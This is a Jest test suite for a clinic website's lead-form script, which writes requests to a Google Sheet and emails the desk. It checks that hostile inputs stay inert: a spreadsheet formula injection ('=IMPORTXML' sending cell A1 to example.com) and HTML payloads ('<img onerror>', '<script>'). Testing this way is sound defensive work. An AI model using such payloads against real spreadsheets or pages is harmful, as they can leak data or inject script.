/** @jest-environment node */
import { FakeGoogle } from "./fake-google";
import { sampleLeads, without, type Fields } from "./sample-leads";

const { booking, consultation } = sampleLeads;
const receivedAt = "2026-11-21T12:30:00+05:30";
const trouble = "Your request could not be saved just now.";

let google: FakeGoogle;
let script: ReturnType<FakeGoogle["load"]>;

beforeEach(() => {
  google = new FakeGoogle();
  script = google.load({
    notify: "desk@example.in",
    phone: "+91 11 2345 6789",
  });
});

/** Posts as Google hands it over: arrays of values by name. */
const post = (fields: Fields) =>
  script.doPost({
    parameters: Object.fromEntries(
      Object.entries(fields).map(([name, value]) => [name, [value]]),
    ),
  });

const result = (fields: Fields) =>
  JSON.parse(post(fields).body) as { ok: boolean; error?: string };

const rows = (tab = "Booking") => google.sheets?.[tab]?.rows.slice(1) ?? [];

describe("a request sent by the site", () => {
  test("is one row with the server's time in the tab of its form, and the answer says so", () => {
    expect(post(booking)).toEqual({ type: "json", body: '{"ok":true}' });
    post(consultation);

    const tabs = { Booking: booking, Consultation: consultation };
    for (const [tab, lead] of Object.entries(tabs))
      expect(google.sheets![tab]!.rows).toEqual([
        [...Object.keys(lead), "receivedAt"],
        [...Object.values(lead), receivedAt],
      ]);
    expect(google.sheets!.Booking!.frozenRows).toBe(1);
    expect(google.flushed).toBe(2);
    expect(google.locked).toBe(false);
  });

  test("finds room in a full sheet", () => {
    for (let index = 0; index < 6; index += 1)
      post({ ...booking, parentName: `Parent ${index}` });

    expect(rows()).toHaveLength(6);
  });

  test("reads as typed: Hindi, line breaks, a zero in front, and formulas that do not run", () => {
    const typed = {
      ...booking,
      parentName: '=IMPORTXML("http://example.com/?"&A1,"//a")',
      phoneNumber: "09876543210",
      serviceRequest: "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं",
    };

    post(typed);

    expect(rows()).toEqual([[...Object.values(typed), receivedAt]]);
  });
});

describe("two posts at once", () => {
  test("of the same request are one row", () => {
    google.whileWaiting = () => post(booking);

    expect(result(booking)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
    expect(google.mails).toHaveLength(1);
  });

  test("of two parents are two rows", () => {
    google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });

    post(booking);

    expect(rows().map((row) => row[0])).toEqual(["Ravi Roy", "Asha Sen"]);
  });
});

describe("the parent is told the truth", () => {
  test("when the row cannot be written; the lock is free and a second try works", () => {
    post(consultation);
    const sheet = google.sheets!.Consultation!;
    const lead = { ...consultation, childName: "Rani" };
    sheet.isFailing = true;

    expect(result(lead)).toEqual({ ok: false, error: trouble });
    expect(google.locked).toBe(false);
    expect(google.mails).toHaveLength(1);
    expect(google.log.join()).not.toContain("Asha");

    sheet.isFailing = false;
    expect(result(lead)).toEqual({ ok: true });
    expect(rows("Consultation")).toHaveLength(2);
  });

  test("when the script belongs to no spreadsheet", () => {
    google.sheets = undefined;

    expect(result(booking)).toEqual({ ok: false, error: trouble });
    expect(google.log.join()).toContain("no spreadsheet");
  });

  test("when a field is unknown, too long or repeated", () => {
    const twice = { parentName: ["A", "B"], location: ["x"], timestamp: ["t"] };

    expect(result({ ...booking, card: "1" }).error).toContain('"card"');
    expect(result({ ...booking, parentName: "x".repeat(1e6) }).error).toBe(
      "Please shorten the parent's name: at most 200 characters.",
    );
    expect(script.doPost({ parameters: twice }).body).toContain(
      "more than once",
    );
    expect(google.sheets).toEqual({});
  });

  test("when nothing came, or what Google does not promise", () => {
    for (const event of [
      undefined,
      null,
      {},
      { parameters: {} },
      { parameters: { parentName: null } },
      { parameters: { location: 5 } },
    ])
      expect(JSON.parse(script.doPost(event).body).ok).toBe(false);
  });
});

describe("the clinic's mail", () => {
  test("names each field that was filled in, and no person in its subject", () => {
    post({ ...consultation, email: "" });

    const [mail] = google.mails;
    expect(mail!.to).toBe("desk@example.in");
    expect(mail!.subject).toBe("K7 website: new consultation request");
    expect(mail!.body).toContain("childName: Ravi");
    expect(mail!.body).not.toContain("email");
    expect(mail!.htmlBody).toContain("12 Market 1<br>CR Park");
  });

  test("shows markup as text", () => {
    post({ ...booking, parentName: `<img src=x onerror="a('&')">` });

    expect(google.mails[0]!.htmlBody).toContain(
      "&lt;img src=x onerror=&quot;a('&amp;')&quot;&gt;",
    );
  });

  test("never costs the row when the quota is spent", () => {
    google.mailQuota = 0;

    expect(result(booking)).toEqual({ ok: true });
    expect(rows()).toHaveLength(1);
    expect(google.log.join()).toContain("no mail was sent");
  });

  test("is not sent where the clinic names no address", () => {
    script = google.load();

    expect(result(booking)).toEqual({ ok: true });
    expect(google.mails).toEqual([]);
  });
});

describe("a browser that posted without scripts", () => {
  const native = without("timestamp", booking);

  test("shows a thank-you page, and the row has the server's time", () => {
    const answer = post(native);

    expect(answer).toMatchObject({ type: "html", title: "Thank you" });
    expect(answer.body).toContain('<html lang="en">');
    expect(answer.body).toContain("We'll get back to you soon.");
    expect(answer.body).toContain('href="tel:+911123456789"');
    expect(rows()[0]![4]).toBe("2026-11-21T07:00:00.000Z");
  });

  test("is told what was wrong, with markup shown as text, and whom to call", () => {
    const answer = post({ ...native, "<script>": "" });

    expect(answer.title).toBe("Your request was not sent");
    expect(answer.body).toContain("&lt;script&gt;");
    expect(answer.body).not.toContain("<script>");
    expect(answer.body).toContain("tel:");
    expect(rows()).toEqual([]);
  });

  test("gets a page without a phone line where the clinic gives none", () => {
    script = google.load();

    expect(post(native).body).not.toContain("tel:");
  });

  test("gets a plain answer when no page can be made", () => {
    google.pagesWork = false;

    expect(post(native)).toEqual({ type: "json", body: '{"ok":true}' });
  });
});

test("the health check answers", () => {
  expect(script.doGet().body).toBe('{"ok":true,"service":"k7-leads"}');
});
